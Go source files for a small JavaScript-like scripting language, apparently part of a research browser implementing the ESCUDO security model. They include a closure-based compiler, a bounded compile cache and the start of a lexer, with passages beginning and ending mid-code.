						return vmval{}, ctrlNone, nil
					}
					if !errors.As(err, &continueSignal{}) {
						return vmval{}, ctrlNone, err
					}
				} else {
					switch ct {
					case ctrlBreak:
						return vmval{}, ctrlNone, nil
					case ctrlReturn:
						return v, ctrlReturn, nil
					}
				}
				if postSlot >= 0 && fsc.slots[postSlot].kind == vNum && *m.steps+2 <= m.max {
					*m.steps += 2
					fsc.slots[postSlot] = vnum(fsc.slots[postSlot].num + postDelta)
				} else if post != nil {
					if _, _, err := post(m, fsc); err != nil {
						return vmval{}, ctrlNone, err
					}
				}
			}
		}
		capture := stmtsContainFunc(st.Body) ||
			(st.Init != nil && stmtContainsFunc(st.Init)) ||
			(st.Cond != nil && exprContainsFunc(st.Cond)) ||
			(st.Post != nil && stmtContainsFunc(st.Post))
		if capture {
			return func(m *machine, sc *scope) (vmval, ctrl, error) {
				return loop(m, newScope(sc, nslots))
			}
		}
		return func(m *machine, sc *scope) (vmval, ctrl, error) {
			fsc := m.getScope(sc, nslots)
			v, ct, err := loop(m, fsc)
			m.putScope(fsc)
			return v, ct, err
		}
	case *ReturnStmt:
		if st.X == nil {
			return func(m *machine, sc *scope) (vmval, ctrl, error) {
				return vmval{}, ctrlReturn, nil
			}
		}
		if o := simpleOperand(st.X, cs); o != nil {
			return func(m *machine, sc *scope) (vmval, ctrl, error) {
				var v vmval
				var err error
				if *m.steps+o.nt > m.max {
					v, err = o.load(m, sc)
				} else {
					v, err = o.loadCharged(m, sc)
				}
				if err != nil {
					return vmval{}, ctrlNone, err
				}
				return v, ctrlReturn, nil
			}
		}
		x := compileExpr(st.X, cs)
		return func(m *machine, sc *scope) (vmval, ctrl, error) {
			v, err := x(m, sc)
			if err != nil {
				return vmval{}, ctrlNone, err
			}
			return v, ctrlReturn, nil
		}
	case *BreakStmt:
		return func(m *machine, sc *scope) (vmval, ctrl, error) {
			return vmval{}, ctrlBreak, nil
		}
	case *ContinueStmt:
		return func(m *machine, sc *scope) (vmval, ctrl, error) {
			return vmval{}, ctrlContinue, nil
		}
	case *BlockStmt:
		body := compileBlock(st.Body, cs)
		return func(m *machine, sc *scope) (vmval, ctrl, error) {
			return body.execChild(m, sc)
		}
	default:
		err := fmt.Errorf("script: unknown statement %T", s)
		return func(m *machine, sc *scope) (vmval, ctrl, error) {
			return vmval{}, ctrlNone, err
		}
	}
}

// compileFuncLit lowers a function body into its own frame: parameters
// first, then the implicit arguments binding (only when referenced),
// then the body's declarations — the interpreter's definition order in
// callValue.
func compileFuncLit(fn *FuncLit, cs *cscope) *compiledFunc {
	fcs := newCscope(cs)
	params := make([]int, len(fn.Params))
	for i, p := range fn.Params {
		params[i] = fcs.declare(p)
	}
	argsSlot := -1
	if stmtsRefArguments(fn.Body) {
		argsSlot = fcs.declare("arguments")
	}
	for _, n := range declaredNames(fn.Body) {
		fcs.declare(n)
	}
	body := compileStmtList(fn.Body, fcs)
	return &compiledFunc{
		params:    params,
		argsSlot:  argsSlot,
		numSlots:  len(fcs.names),
		body:      body,
		noCapture: !stmtsContainFunc(fn.Body),
	}
}

// singleExprStmt reports whether body is exactly one expression
// statement — the shape the If and For compilers flatten.
func singleExprStmt(body []Stmt) (*ExprStmt, bool) {
	if len(body) != 1 {
		return nil, false
	}
	es, ok := body[0].(*ExprStmt)
	return es, ok
}

// stmtsContainFunc reports whether a statement list contains any
// function literal or declaration, at any depth. A frame whose body
// contains none can never be captured (closures are the only way a
// frame outlives its execution), so the machine may pool it.
func stmtsContainFunc(body []Stmt) bool {
	for _, s := range body {
		if stmtContainsFunc(s) {
			return true
		}
	}
	return false
}

func stmtContainsFunc(s Stmt) bool {
	switch st := s.(type) {
	case *VarStmt:
		return st.Init != nil && exprContainsFunc(st.Init)
	case *VarListStmt:
		for _, d := range st.Decls {
			if stmtContainsFunc(d) {
				return true
			}
		}
	case *ExprStmt:
		return exprContainsFunc(st.X)
	case *IfStmt:
		return exprContainsFunc(st.Cond) || stmtsContainFunc(st.Then) || stmtsContainFunc(st.Else)
	case *WhileStmt:
		return exprContainsFunc(st.Cond) || stmtsContainFunc(st.Body)
	case *ForStmt:
		if st.Init != nil && stmtContainsFunc(st.Init) {
			return true
		}
		if st.Cond != nil && exprContainsFunc(st.Cond) {
			return true
		}
		if st.Post != nil && stmtContainsFunc(st.Post) {
			return true
		}
		return stmtsContainFunc(st.Body)
	case *ReturnStmt:
		return st.X != nil && exprContainsFunc(st.X)
	case *BlockStmt:
		return stmtsContainFunc(st.Body)
	case *FuncDeclStmt:
		return true
	}
	return false
}

func exprContainsFunc(x Expr) bool {
	switch e := x.(type) {
	case *FuncLit:
		return true
	case *BinaryExpr:
		return exprContainsFunc(e.L) || exprContainsFunc(e.R)
	case *UnaryExpr:
		return exprContainsFunc(e.X)
	case *AssignExpr:
		return exprContainsFunc(e.Target) || exprContainsFunc(e.Value)
	case *CondExpr:
		return exprContainsFunc(e.Cond) || exprContainsFunc(e.Then) || exprContainsFunc(e.Else)
	case *CallExpr:
		if exprContainsFunc(e.Fn) {
			return true
		}
		for _, a := range e.Args {
			if exprContainsFunc(a) {
				return true
			}
		}
	case *NewExpr:
		if exprContainsFunc(e.Fn) {
			return true
		}
		for _, a := range e.Args {
			if exprContainsFunc(a) {
				return true
			}
		}
	case *MemberExpr:
		return exprContainsFunc(e.X)
	case *IndexExpr:
		return exprContainsFunc(e.X) || exprContainsFunc(e.Index)
	case *ObjectLit:
		for _, v := range e.Values {
			if exprContainsFunc(v) {
				return true
			}
		}
	case *ArrayLit:
		for _, el := range e.Elems {
			if exprContainsFunc(el) {
				return true
			}
		}
	}
	return false
}

// stmtsRefArguments reports whether a function body references the
// implicit `arguments` binding. Nested function literals are skipped:
// their bodies resolve `arguments` against their own call scope. The
// language has no eval/with, so an identifier reference is the only
// way to reach the binding, making this exact.
func stmtsRefArguments(body []Stmt) bool {
	for _, s := range body {
		if stmtRefsArguments(s) {
			return true
		}
	}
	return false
}

func stmtRefsArguments(s Stmt) bool {
	switch st := s.(type) {
	case *VarStmt:
		return st.Init != nil && exprRefsArguments(st.Init)
	case *VarListStmt:
		for _, d := range st.Decls {
			if stmtRefsArguments(d) {
				return true
			}
		}
	case *ExprStmt:
		return exprRefsArguments(st.X)
	case *IfStmt:
		return exprRefsArguments(st.Cond) || stmtsRefArguments(st.Then) || stmtsRefArguments(st.Else)
	case *WhileStmt:
		return exprRefsArguments(st.Cond) || stmtsRefArguments(st.Body)
	case *ForStmt:
		if st.Init != nil && stmtRefsArguments(st.Init) {
			return true
		}
		if st.Cond != nil && exprRefsArguments(st.Cond) {
			return true
		}
		if st.Post != nil && stmtRefsArguments(st.Post) {
			return true
		}
		return stmtsRefArguments(st.Body)
	case *ReturnStmt:
		return st.X != nil && exprRefsArguments(st.X)
	case *BlockStmt:
		return stmtsRefArguments(st.Body)
	}
	return false
}

func exprRefsArguments(x Expr) bool {
	switch e := x.(type) {
	case *Ident:
		return e.Name == "arguments"
	case *BinaryExpr:
		return exprRefsArguments(e.L) || exprRefsArguments(e.R)
	case *UnaryExpr:
		return exprRefsArguments(e.X)
	case *AssignExpr:
		return exprRefsArguments(e.Target) || exprRefsArguments(e.Value)
	case *CondExpr:
		return exprRefsArguments(e.Cond) || exprRefsArguments(e.Then) || exprRefsArguments(e.Else)
	case *CallExpr:
		if exprRefsArguments(e.Fn) {
			return true
		}
		for _, a := range e.Args {
			if exprRefsArguments(a) {
				return true
			}
		}
	case *NewExpr:
		if exprRefsArguments(e.Fn) {
			return true
		}
		for _, a := range e.Args {
			if exprRefsArguments(a) {
				return true
			}
		}
	case *MemberExpr:
		return exprRefsArguments(e.X)
	case *IndexExpr:
		return exprRefsArguments(e.X) || exprRefsArguments(e.Index)
	case *ObjectLit:
		for _, v := range e.Values {
			if exprRefsArguments(v) {
				return true
			}
		}
	case *ArrayLit:
		for _, el := range e.Elems {
			if exprRefsArguments(el) {
				return true
			}
		}
	}
	return false
}

func compileExprs(xs []Expr, cs *cscope) []cexpr {
	out := make([]cexpr, len(xs))
	for i, x := range xs {
		out[i] = compileExpr(x, cs)
	}
	return out
}

func compileExpr(x Expr, cs *cscope) cexpr {
	// Any fully-simple subtree (constants, resolved identifiers,
	// binary chains, member reads) compiles to a single fused closure.
	if o := simpleOperand(x, cs); o != nil {
		return o.cex()
	}
	switch e := x.(type) {
	case *UnaryExpr:
		sub := compileExpr(e.X, cs)
		line := e.Line
		switch e.Op {
		case "!":
			return func(m *machine, sc *scope) (vmval, error) {
				v, err := sub(m, sc)
				if err != nil {
					return vmval{}, err
				}
				return vbool(!truthy(v)), nil
			}
		case "-":
			return func(m *machine, sc *scope) (vmval, error) {
				v, err := sub(m, sc)
				if err != nil {
					return vmval{}, err
				}
				if v.kind != vNum {
					return vmval{}, &RuntimeError{Line: line, Msg: "unary - on non-number"}
				}
				return vnum(-v.num), nil
			}
		case "typeof":
			return func(m *machine, sc *scope) (vmval, error) {
				v, err := sub(m, sc)
				if err != nil {
					return vmval{}, err
				}
				return vstr(typeOfV(v)), nil
			}
		default:
			msg := "unknown unary " + e.Op
			return func(m *machine, sc *scope) (vmval, error) {
				if _, err := sub(m, sc); err != nil {
					return vmval{}, err
				}
				return vmval{}, &RuntimeError{Line: line, Msg: msg}
			}
		}
	case *BinaryExpr:
		return compileBinary(e, cs)
	case *CondExpr:
		cond := compileExpr(e.Cond, cs)
		then := compileExpr(e.Then, cs)
		els := compileExpr(e.Else, cs)
		return func(m *machine, sc *scope) (vmval, error) {
			c, err := cond(m, sc)
			if err != nil {
				return vmval{}, err
			}
			if truthy(c) {
				return then(m, sc)
			}
			return els(m, sc)
		}
	case *AssignExpr:
		return compileAssign(e, cs)
	case *ObjectLit:
		keys := e.Keys
		vals := compileExprs(e.Values, cs)
		return func(m *machine, sc *scope) (vmval, error) {
			obj := NewObject()
			for i, vc := range vals {
				v, err := vc(m, sc)
				if err != nil {
					return vmval{}, err
				}
				obj.Props[keys[i]] = box(v)
			}
			return vref(obj), nil
		}
	case *ArrayLit:
		elems := compileExprs(e.Elems, cs)
		return func(m *machine, sc *scope) (vmval, error) {
			arr := &Array{}
			for _, ec := range elems {
				v, err := ec(m, sc)
				if err != nil {
					return vmval{}, err
				}
				arr.Elems = append(arr.Elems, box(v))
			}
			return vref(arr), nil
		}
	case *FuncLit:
		cf := compileFuncLit(e, cs)
		return func(m *machine, sc *scope) (vmval, error) {
			return vref(&vmClosure{fn: cf, sc: sc}), nil
		}
	case *MemberExpr:
		return compileMember(e, cs)
	case *IndexExpr:
		return compileIndex(e, cs)
	case *CallExpr:
		if me, ok := e.Fn.(*MemberExpr); ok {
			return compileMethodCall(e, me, cs)
		}
		fnc := compileArgOp(e.Fn, cs)
		args := compileArgOps(e.Args, cs)
		line := e.Line
		return func(m *machine, sc *scope) (vmval, error) {
			if err := m.tick(line); err != nil {
				return vmval{}, err
			}
			fn, err := fnc.eval(m, sc)
			if err != nil {
				return vmval{}, err
			}
			base := len(m.argbuf)
			for i := range args {
				v, err := args[i].eval(m, sc)
				if err != nil {
					m.argbuf = m.argbuf[:base]
					return vmval{}, err
				}
				m.argbuf = append(m.argbuf, v)
			}
			v, err := m.call(fn, m.argbuf[base:], line)
			m.argbuf = m.argbuf[:base]
			return v, err
		}
	case *NewExpr:
		fnc := compileArgOp(e.Fn, cs)
		args := compileArgOps(e.Args, cs)
		line := e.Line
		return func(m *machine, sc *scope) (vmval, error) {
			fn, err := fnc.eval(m, sc)
			if err != nil {
				return vmval{}, err
			}
			base := len(m.argbuf)
			for i := range args {
				v, err := args[i].eval(m, sc)
				if err != nil {
					m.argbuf = m.argbuf[:base]
					return vmval{}, err
				}
				m.argbuf = append(m.argbuf, v)
			}
			v, err := m.call(fn, m.argbuf[base:], line)
			m.argbuf = m.argbuf[:base]
			return v, err
		}
	default:
		err := fmt.Errorf("script: unknown expression %T", x)
		return func(m *machine, sc *scope) (vmval, error) {
			return vmval{}, err
		}
	}
}

// compileMethodCall lowers recv.name(args). Hot Array methods (push,
// join) dispatch directly on unboxed values, skipping the bound
// closure arrayMember allocates per access and the []Value boxing of
// a native call; everything else resolves the member then calls it,
// in the interpreter's order (callee fully evaluates before any
// argument). The direct dispatch is observably identical because
// arrayMember is pure and push/join cannot fail to resolve.
func compileMethodCall(e *CallExpr, me *MemberExpr, cs *cscope) cexpr {
	callLine, memLine, name := e.Line, me.Line, me.Name
	recvOp := simpleOperand(me.X, cs)
	var recvC cexpr
	if recvOp == nil {
		recvC = compileExpr(me.X, cs)
	}
	args := compileArgOps(e.Args, cs)
	return func(m *machine, sc *scope) (vmval, error) {
		if *m.steps+2 > m.max {
			// Near exhaustion: replay the exact per-tick order so the
			// failing step index matches the interpreter.
			if err := m.tick(callLine); err != nil {
				return vmval{}, err
			}
			if err := m.tick(memLine); err != nil {
				return vmval{}, err
			}
		} else {
			*m.steps += 2
		}
		var recv vmval
		var err error
		if recvOp != nil {
			if *m.steps+recvOp.nt > m.max {
				recv, err = recvOp.load(m, sc)
			} else {
				recv, err = recvOp.loadCharged(m, sc)
			}
		} else {
			recv, err = recvC(m, sc)
		}
		if err != nil {
			return vmval{}, err
		}
		var arr *Array
		if recv.kind == vRef {
			if a, ok := recv.ref.(*Array); ok && (name == "push" || name == "join") {
				arr = a
			}
		}
		var fn vmval
		if arr == nil {
			if fn, err = getMemberV(recv, name, memLine); err != nil {
				return vmval{}, err
			}
		}
		base := len(m.argbuf)
		for i := range args {
			v, err := args[i].eval(m, sc)
			if err != nil {
				m.argbuf = m.argbuf[:base]
				return vmval{}, err
			}
			m.argbuf = append(m.argbuf, v)
		}
		var v vmval
		if arr != nil {
			if name == "push" {
				v = arrayPushV(arr, m.argbuf[base:])
			} else {
				v = arrayJoinV(arr, m.argbuf[base:])
			}
		} else {
			v, err = m.call(fn, m.argbuf[base:], callLine)
		}
		m.argbuf = m.argbuf[:base]
		return v, err
	}
}

// compileMember lowers obj.name with a complex receiver (a simple one
// fuses into the expression as an opMember).
func compileMember(e *MemberExpr, cs *cscope) cexpr {
	name, line := e.Name, e.Line
	xc := compileExpr(e.X, cs)
	return func(m *machine, sc *scope) (vmval, error) {
		if err := m.tick(line); err != nil {
			return vmval{}, err
		}
		recv, err := xc(m, sc)
		if err != nil {
			return vmval{}, err
		}
		return getMemberV(recv, name, line)
	}
}

// compileIndex lowers obj[idx] (no node tick, mirroring the
// interpreter); simple receiver and index fuse with one batched check.
func compileIndex(e *IndexExpr, cs *cscope) cexpr {
	line := e.Line
	xop := simpleOperand(e.X, cs)
	iop := simpleOperand(e.Index, cs)
	if xop != nil && iop != nil {
		nt := xop.nt + iop.nt
		slow := func(m *machine, sc *scope) (vmval, error) {
			recv, err := xop.load(m, sc)
			if err != nil {
				return vmval{}, err
			}
			idx, err := iop.load(m, sc)
			if err != nil {
				return vmval{}, err
			}
			return getIndexV(recv, idx, line)
		}
		return func(m *machine, sc *scope) (vmval, error) {
			if *m.steps+nt > m.max {
				return slow(m, sc)
			}
			recv, err := xop.loadCharged(m, sc)
			if err != nil {
				return vmval{}, err
			}
			idx, err := iop.loadCharged(m, sc)
			if err != nil {
				return vmval{}, err
			}
			return getIndexV(recv, idx, line)
		}
	}
	xc := compileExpr(e.X, cs)
	ic := compileExpr(e.Index, cs)
	return func(m *machine, sc *scope) (vmval, error) {
		recv, err := xc(m, sc)
		if err != nil {
			return vmval{}, err
		}
		idx, err := ic(m, sc)
		if err != nil {
			return vmval{}, err
		}
		return getIndexV(recv, idx, line)
	}
}

// binFn specializes a binary operator into a per-op closure so the hot
// path pays no string switch. Slow or error shapes delegate to the
// generic binaryOp, which keeps every error message and coercion
// identical to the interpreter (NaN comparisons included: the ordered
// operators reproduce binaryOp's three-way comparison exactly).
func binFn(op string, line int) func(l, r vmval) (vmval, error) {
	switch op {
	case "+":
		return func(l, r vmval) (vmval, error) {
			if l.kind == vNum && r.kind == vNum {
				return vnum(l.num + r.num), nil
			}
			return binaryOp("+", l, r, line)
		}
	case "-":
		return func(l, r vmval) (vmval, error) {
			if l.kind == vNum && r.kind == vNum {
				return vnum(l.num - r.num), nil
			}
			return binaryOp("-", l, r, line)
		}
	case "*":
		return func(l, r vmval) (vmval, error) {
			if l.kind == vNum && r.kind == vNum {
				return vnum(l.num * r.num), nil
			}
			return binaryOp("*", l, r, line)
		}
	case "/":
		return func(l, r vmval) (vmval, error) {
			if l.kind == vNum && r.kind == vNum {
				return vnum(l.num / r.num), nil
			}
			return binaryOp("/", l, r, line)
		}
	case "%":
		return func(l, r vmval) (vmval, error) {
			if l.kind == vNum && r.kind == vNum {
				return vnum(fmod(l.num, r.num)), nil
			}
			return binaryOp("%", l, r, line)
		}
	case "==":
		return func(l, r vmval) (vmval, error) {
			return vbool(vmEquals(l, r)), nil
		}
	case "!=":
		return func(l, r vmval) (vmval, error) {
			return vbool(!vmEquals(l, r)), nil
		}
	case "<":
		return func(l, r vmval) (vmval, error) {
			if l.kind == vNum && r.kind == vNum {
				return vbool(l.num < r.num), nil
			}
			return binaryOp("<", l, r, line)
		}
	case ">":
		return func(l, r vmval) (vmval, error) {
			if l.kind == vNum && r.kind == vNum {
				return vbool(l.num > r.num), nil
			}
			return binaryOp(">", l, r, line)
		}
	case "<=":
		return func(l, r vmval) (vmval, error) {
			if l.kind == vNum && r.kind == vNum {
				return vbool(!(l.num > r.num)), nil
			}
			return binaryOp("<=", l, r, line)
		}
	case ">=":
		return func(l, r vmval) (vmval, error) {
			if l.kind == vNum && r.kind == vNum {
				return vbool(!(l.num < r.num)), nil
			}
			return binaryOp(">=", l, r, line)
		}
	default:
		return func(l, r vmval) (vmval, error) {
			return binaryOp(op, l, r, line)
		}
	}
}

func compileBinary(e *BinaryExpr, cs *cscope) cexpr {
	line, op := e.Line, e.Op
	switch op {
	case "&&":
		l := compileExpr(e.L, cs)
		r := compileExpr(e.R, cs)
		return func(m *machine, sc *scope) (vmval, error) {
			if err := m.tick(line); err != nil {
				return vmval{}, err
			}
			lv, err := l(m, sc)
			if err != nil {
				return vmval{}, err
			}
			if !truthy(lv) {
				return lv, nil
			}
			return r(m, sc)
		}
	case "||":
		l := compileExpr(e.L, cs)
		r := compileExpr(e.R, cs)
		return func(m *machine, sc *scope) (vmval, error) {
			if err := m.tick(line); err != nil {
				return vmval{}, err
			}
			lv, err := l(m, sc)
			if err != nil {
				return vmval{}, err
			}
			if truthy(lv) {
				return lv, nil
			}
			return r(m, sc)
		}
	}
	fn := binFn(op, line)
	lc := compileExpr(e.L, cs)
	rc := compileExpr(e.R, cs)
	return func(m *machine, sc *scope) (vmval, error) {
		if err := m.tick(line); err != nil {
			return vmval{}, err
		}
		lv, err := lc(m, sc)
		if err != nil {
			return vmval{}, err
		}
		rv, err := rc(m, sc)
		if err != nil {
			return vmval{}, err
		}
		return fn(lv, rv)
	}
}

func compileAssign(e *AssignExpr, cs *cscope) cexpr {
	line := e.Line
	compound := e.Op != "="
	var opFn func(l, r vmval) (vmval, error)
	var aopc uint8
	if compound {
		opFn = binFn(e.Op[:len(e.Op)-1], line) // "+=" → "+"
		aopc = binOpc(e.Op[:len(e.Op)-1])
	}
	vop := simpleOperand(e.Value, cs)
	// apply mirrors the interpreter's compound-assignment desugaring,
	// including the extra tick its synthesized BinaryExpr charges.
	apply := func(m *machine, old, value vmval) (vmval, error) {
		if !compound {
			return value, nil
		}
		if err := m.tick(line); err != nil {
			return vmval{}, err
		}
		return opFn(old, value)
	}
	switch t := e.Target.(type) {
	case *Ident:
		name := t.Name
		refs := resolve(cs, name)
		if len(refs) == 1 && vop != nil {
			// Fused: single-candidate slot target, simple value.
			slot, hops := refs[0].slot, refs[0].hops
			top := &simpleOp{kind: opSlot, slot: slot, hops: hops, name: name, line: line, nt: 1}
			nt := 1 + vop.nt
			if compound {
				nt++
			}
			slow := func(m *machine, sc *scope) (vmval, error) {
				if err := m.tick(line); err != nil {
					return vmval{}, err
				}
				value, err := vop.load(m, sc)
				if err != nil {
					return vmval{}, err
				}
				nv := value
				if compound {
					old, err := top.read(sc)
					if err != nil {
						return vmval{}, err
					}
					if err := m.tick(line); err != nil {
						return vmval{}, err
					}
					if nv, err = opFn(old, value); err != nil {
						return vmval{}, err
					}
				}
				ts := sc
				for h := hops; h > 0; h-- {
					ts = ts.parent
				}
				if ts.slots[slot].kind != vUnbound {
					ts.slots[slot] = nv
				} else {
					hostAssign(sc.host, name, nv)
				}
				return nv, nil
			}
			return func(m *machine, sc *scope) (vmval, error) {
				if *m.steps+nt > m.max {
					return slow(m, sc)
				}
				*m.steps++
				value, err := vop.loadCharged(m, sc)
				if err != nil {
					return vmval{}, err
				}
				ts := sc
				for h := hops; h > 0; h-- {
					ts = ts.parent
				}
				nv := value
				if compound {
					old := ts.slots[slot]
					if old.kind == vUnbound {
						hv, ok := sc.host.Get(name)
						if !ok {
							return vmval{}, errUndefined(line, name)
						}
						old = unbox(hv)
					}
					*m.steps++
					if v, ok := numFast(aopc, old, value); ok {
						nv = v
					} else if nv, err = opFn(old, value); err != nil {
						return vmval{}, err
					}
				}
				if ts.slots[slot].kind != vUnbound {
					ts.slots[slot] = nv
				} else {
					hostAssign(sc.host, name, nv)
				}
				return nv, nil
			}
		}
		vc := compileExpr(e.Value, cs)
		return func(m *machine, sc *scope) (vmval, error) {
			if err := m.tick(line); err != nil {
				return vmval{}, err
			}
			value, err := vc(m, sc)
			if err != nil {
				return vmval{}, err
			}
			var old vmval
			if compound {
				var ok bool
				old, ok = loadVar(sc, refs, name)
				if !ok {
					return vmval{}, errUndefined(line, name)
				}
			}
			nv, err := apply(m, old, value)
			if err != nil {
				return vmval{}, err
			}
			storeVar(sc, refs, name, nv)
			return nv, nil
		}
	case *MemberExpr:
		name := t.Name
		xop := simpleOperand(t.X, cs)
		if vop != nil && xop != nil {
			// Fused: simple value and receiver.
			nt := 1 + vop.nt + xop.nt
			if compound {
				nt++
			}
			slow := func(m *machine, sc *scope) (vmval, error) {
				if err := m.tick(line); err != nil {
					return vmval{}, err
				}
				value, err := vop.load(m, sc)
				if err != nil {
					return vmval{}, err
				}
				recv, err := xop.load(m, sc)
				if err != nil {
					return vmval{}, err
				}
				var old vmval
				if compound {
					if old, err = getMemberV(recv, name, line); err != nil {
						return vmval{}, err
					}
				}
				nv, err := apply(m, old, value)
				if err != nil {
					return vmval{}, err
				}
				if err := setMemberV(recv, name, nv, line); err != nil {
					return vmval{}, err
				}
				return nv, nil
			}
			return func(m *machine, sc *scope) (vmval, error) {
				if *m.steps+nt > m.max {
					return slow(m, sc)
				}
				*m.steps++
				value, err := vop.loadCharged(m, sc)
				if err != nil {
					return vmval{}, err
				}
				recv, err := xop.loadCharged(m, sc)
				if err != nil {
					return vmval{}, err
				}
				// Plain-object receiver: one map read + one map write,
				// skipping the member-dispatch switches. getMemberV on a
				// missing key yields null, matching Props lookup misses.
				if obj, ok := recv.ref.(*Object); recv.kind == vRef && ok {
					nv := value
					if compound {
						old := unbox(obj.Props[name])
						*m.steps++
						if v, ok := numFast(aopc, old, value); ok {
							nv = v
						} else if nv, err = opFn(old, value); err != nil {
							return vmval{}, err
						}
					}
					obj.Props[name] = box(nv)
					return nv, nil
				}
				nv := value
				if compound {
					old, err := getMemberV(recv, name, line)
					if err != nil {
						return vmval{}, err
					}
					*m.steps++
					if v, ok := numFast(aopc, old, value); ok {
						nv = v
					} else if nv, err = opFn(old, value); err != nil {
						return vmval{}, err
					}
				}
				if err := setMemberV(recv, name, nv, line); err != nil {
					return vmval{}, err
				}
				return nv, nil
			}
		}
		vc := compileExpr(e.Value, cs)
		xc := compileExpr(t.X, cs)
		return func(m *machine, sc *scope) (vmval, error) {
			if err := m.tick(line); err != nil {
				return vmval{}, err
			}
			value, err := vc(m, sc)
			if err != nil {
				return vmval{}, err
			}
			recv, err := xc(m, sc)
			if err != nil {
				return vmval{}, err
			}
			var old vmval
			if compound {
				if old, err = getMemberV(recv, name, line); err != nil {
					return vmval{}, err
				}
			}
			nv, err := apply(m, old, value)
			if err != nil {
				return vmval{}, err
			}
			if err := setMemberV(recv, name, nv, line); err != nil {
				return vmval{}, err
			}
			return nv, nil
		}
	case *IndexExpr:
		vc := compileExpr(e.Value, cs)
		xc := compileExpr(t.X, cs)
		ic := compileExpr(t.Index, cs)
		return func(m *machine, sc *scope) (vmval, error) {
			if err := m.tick(line); err != nil {
				return vmval{}, err
			}
			value, err := vc(m, sc)
			if err != nil {
				return vmval{}, err
			}
			recv, err := xc(m, sc)
			if err != nil {
				return vmval{}, err
			}
			idx, err := ic(m, sc)
			if err != nil {
				return vmval{}, err
			}
			var old vmval
			if compound {
				if old, err = getIndexV(recv, idx, line); err != nil {
					return vmval{}, err
				}
			}
			nv, err := apply(m, old, value)
			if err != nil {
				return vmval{}, err
			}
			if err := setIndexV(recv, idx, nv, line); err != nil {
				return vmval{}, err
			}
			return nv, nil
		}
	default:
		vc := compileExpr(e.Value, cs)
		return func(m *machine, sc *scope) (vmval, error) {
			if err := m.tick(line); err != nil {
				return vmval{}, err
			}
			if _, err := vc(m, sc); err != nil {
				return vmval{}, err
			}
			return vmval{}, &RuntimeError{Line: line, Msg: "bad assignment target"}
		}
	}
}
