package script

import (
	"strings"
	"sync"
	"sync/atomic"
)

// Compiled programs are immutable, so one compilation of a <script>
// body can serve every page load and every session in the pool. The
// package-level cache below is a two-generation ("hot"/"cold") bounded
// map: when the hot generation fills, it becomes the cold one and a
// fresh hot map starts. A cold hit promotes back to hot, so scripts
// that keep appearing survive rotation while one-shot bodies age out
// after two generations.

type compileCache struct {
	mu    sync.Mutex
	hot   map[string]*Compiled
	cold  map[string]*Compiled
	limit int

	hits   atomic.Uint64
	misses atomic.Uint64
}

// progCache serves CompileCached. 512 entries per generation covers
// the full benchmark corpus (figure4 + phpBB + mixed + attacks) many
// times over while bounding worst-case retention.
var progCache = &compileCache{
	hot:   make(map[string]*Compiled),
	cold:  make(map[string]*Compiled),
	limit: 512,
}

// CompileCached returns the compiled form of src, compiling at most
// once per distinct source under normal operation. Parse errors are
// not cached. Safe for concurrent use.
func CompileCached(src string) (*Compiled, error) { return progCache.get(src) }

// CompileCacheStats reports cumulative cache hits and misses.
func CompileCacheStats() (hits, misses uint64) {
	return progCache.hits.Load(), progCache.misses.Load()
}

func (c *compileCache) get(src string) (*Compiled, error) {
	c.mu.Lock()
	if p, ok := c.hot[src]; ok {
		c.mu.Unlock()
		c.hits.Add(1)
		return p, nil
	}
	if p, ok := c.cold[src]; ok {
		c.insertLocked(strings.Clone(src), p)
		c.mu.Unlock()
		c.hits.Add(1)
		return p, nil
	}
	c.mu.Unlock()

	// Compile outside the lock; a racing duplicate compile is harmless
	// since Compiled values are interchangeable.
	p, err := CompileSource(src)
	c.misses.Add(1)
	if err != nil {
		return nil, err
	}
	// Clone the key: src is often a substring of a whole page, and a
	// map key pinning page-sized buffers would defeat the point of
	// interning.
	key := strings.Clone(src)
	c.mu.Lock()
	c.insertLocked(key, p)
	c.mu.Unlock()
	return p, nil
}

func (c *compileCache) insertLocked(key string, p *Compiled) {
	if len(c.hot) >= c.limit {
		c.cold = c.hot
		c.hot = make(map[string]*Compiled, c.limit)
	}
	c.hot[key] = p
}
