// Package script implements a small JavaScript-like language: lexer,
// parser, and tree-walking interpreter with host bindings. Scripts are
// the paper's script-invoking principals (Table 1); the browser binds
// each script's execution environment (document, window,
// XMLHttpRequest) to the principal's security context so that every
// effectful operation the script performs is mediated by the ESCUDO
// Reference Monitor.
//
// The language covers what the evaluation needs: var declarations,
// functions and closures, if/while/for, the usual operators, object
// and array literals, member and index access, and new-style
// constructor calls. It is deliberately not a full ECMAScript.
package script

import (
	"fmt"
	"strings"
	"unicode"
)

// tokenKind classifies lexical tokens.
type tokenKind int

const (
	tokEOF tokenKind = iota + 1
	tokIdent
	tokNumber
	tokString
	tokPunct
	tokKeyword
)

// keywords of the language.
var keywords = map[string]bool{
	"var": true, "function": true, "return": true, "if": true,
	"else": true, "while": true, "for": true, "true": true,
	"false": true, "null": true, "new": true, "break": true,
	"continue": true, "typeof": true,
}

// token is one lexical unit.
type token struct {
	kind tokenKind
	text string
	pos  int // byte offset, for error messages
	line int
}

// SyntaxError reports a lexical or parse failure with its location.
type SyntaxError struct {
	Line int
	Msg  string
}

// Error implements error.
func (e *SyntaxError) Error() string {
	return fmt.Sprintf("script: line %d: %s", e.Line, e.Msg)
}

// lexer splits source into tokens.
type lexer struct {
	src      string
	pos      int
	line     int
	interned map[string]string
}

// intern returns a canonical copy of s. Identifier text flows into the
// AST (and from there into cached compiled programs), so it must not
// remain a substring of the source — a cached program pinning a whole
// page body would defeat the compile cache. Interning also collapses
// repeated identifiers to one allocation.
func (l *lexer) intern(s string) string {
	if v, ok := l.interned[s]; ok {
		return v
	}
	c := strings.Clone(s)
	if l.interned == nil {
		l.interned = make(map[string]string, 16)
	}
	l.interned[c] = c
	return c
}

// lex tokenizes the whole source.
func lex(src string) ([]token, error) {
	l := &lexer{src: src, line: 1}
	var toks []token
	for {
		tok, err := l.next()
		if err != nil {
			return nil, err
		}
		toks = append(toks, tok)
		if tok.kind == tokEOF {
			return toks, nil
		}
	}
}

// punctuators, longest first so the lexer is greedy.
var puncts = []string{
	"===", "!==", "==", "!=", "<=", ">=", "&&", "||", "+=", "-=", "*=", "/=", "++", "--",
	"(", ")", "{", "}", "[", "]", ";", ",", ".", "+", "-", "*", "/", "%", "<", ">", "=", "!", ":", "?",
}

// next scans one token.
func (l *lexer) next() (token, error) {
	l.skipSpaceAndComments()
	if l.pos >= len(l.src) {
		return token{kind: tokEOF, pos: l.pos, line: l.line}, nil
	}
	start, line := l.pos, l.line
	c := l.src[l.pos]

	switch {
	case isIdentStart(c):
		for l.pos < len(l.src) && isIdentPart(l.src[l.pos]) {
			l.pos++
